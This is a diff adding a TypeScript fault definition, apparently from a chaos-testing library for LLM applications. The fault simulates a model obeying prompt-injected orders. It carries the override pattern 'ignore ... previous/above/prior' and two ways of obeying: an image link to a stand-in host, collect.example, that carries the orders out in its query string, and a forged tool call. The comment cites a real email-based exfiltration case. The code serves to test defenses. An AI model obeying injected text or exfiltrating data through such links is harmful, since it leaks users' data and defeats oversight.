@@ -1,0 +1,54 @@
+import { z } from 'zod'
+import { type Call } from '../src/engine/call.ts'
+import { defineFault, type FaultFactory } from '../src/engine/fault.ts'
+import { type Reply } from '../src/engine/reply.ts'
+
+const parameters = z.object({
+  by: z.enum(['link', 'tool-call']).default('link').describe('how the model obeys'),
+  orders: z.string().min(1).default('ignore .*(previous|above|prior)').describe('a regular expression that finds the orders'),
+})
+
+/** The orders in what the model was given to read; nothing, where there are none. */
+function ordersIn({ messages }: Call, pattern: string): string | undefined {
+  const texts = messages
+    .filter(({ role }) => role !== 'system')
+    .flatMap(({ parts }) => parts.flatMap((part) => ('text' in part ? part.text : [])))
+  return texts.map((text) => new RegExp(`${pattern}.*`, 'is').exec(text)?.[0]).find((orders) => orders !== undefined)
+}
+
+function obeyingByLink(reply: Reply, orders: string): Reply {
+  const address = `https://collect.example/p.png?q=${encodeURIComponent(orders.slice(0, 80))}`
+  return {
+    ...reply,
+    parts: [...reply.parts.filter(({ type }) => type !== 'tool-call'), { type: 'text', text: `\n![](${address})` }],
+    finish: 'stop',
+  }
+}
+
+function obeyingByTool(reply: Reply, orders: string, { tools, index }: Call): Reply {
+  const [tool] = tools
+  if (tool === undefined) return reply
+  const name = Object.keys(((tool.parameters as { properties?: object }).properties ?? { input: {} }) as object)[0] ?? 'input'
+  const call = { type: 'tool-call', id: `call_injected_${index}`, name: tool.name, arguments: JSON.stringify({ [name]: orders }) } as const
+  return { ...reply, parts: [call], finish: 'tool-calls' }
+}
+
+/**
+ * The model obeys orders that stand in what it was given to read: in a tool result, or in a document of the user's. It says so by a
+ * link that carries data away, or by a tool call. Without such orders it does nothing wrong.
+ * Seen in: CVE-2025-32711, a mail that made an assistant send data out by the address of a picture (arXiv 2509.10540).
+ * @example
+ * chaos.inject(injectionObeyed({ by: 'tool-call' }))
+ */
+export const injectionObeyed: FaultFactory<typeof parameters> = defineFault({
+  name: 'injection-obeyed',
+  summary: 'the model obeys orders that stand in what it was given to read',
+  sources: ['https://arxiv.org/abs/2509.10540', 'https://arxiv.org/abs/2406.13352'],
+  breaks: ['never-acts-on-injected', 'guard-catches'],
+  parameters,
+  answer(reply, { call, parameters: { by, orders: pattern } }) {
+    const orders = ordersIn(call, pattern)
+    if (orders === undefined) return reply
+    return by === 'link' ? obeyingByLink(reply, orders) : obeyingByTool(reply, orders, call)
+  },
+})
